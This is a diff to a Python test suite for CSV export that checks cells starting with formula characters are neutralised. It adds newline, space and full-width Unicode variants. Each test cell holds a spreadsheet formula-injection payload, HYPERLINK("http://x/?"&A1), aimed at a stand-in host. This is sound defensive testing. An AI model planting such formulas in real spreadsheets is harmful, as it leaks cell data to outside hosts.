@@ -265,14 +265,21 @@ def test_a_branch_is_named_and_does_nothing(hostile: Project) -> None:
 # CSV
 
 
-@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", "'="])
+@pytest.mark.parametrize(
+    "sign",
+    [
+        *("=", "+", "-", "@", "\t", "\r", "\n", "'="),
+        *("\r=", "\n=", " =", "\u3000+", "' =", "'\n="),
+        *("\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66"),
+    ],
+)
 def test_no_cell_is_a_formula_and_each_is_read_as_it_was(sign: str) -> None:
     cell = f'{sign}HYPERLINK("http://x/?"&A1)'
 
     line = csv_line((cell, "https://example.com/1"))
 
     assert "'" == line.lstrip('"')[0]
-    if sign.strip():
+    if len(line.splitlines()) == 1 and sign.strip():
         ((row,), mistakes) = read_rows(line)
         assert (cell, []) == (row.wanted, mistakes)
 
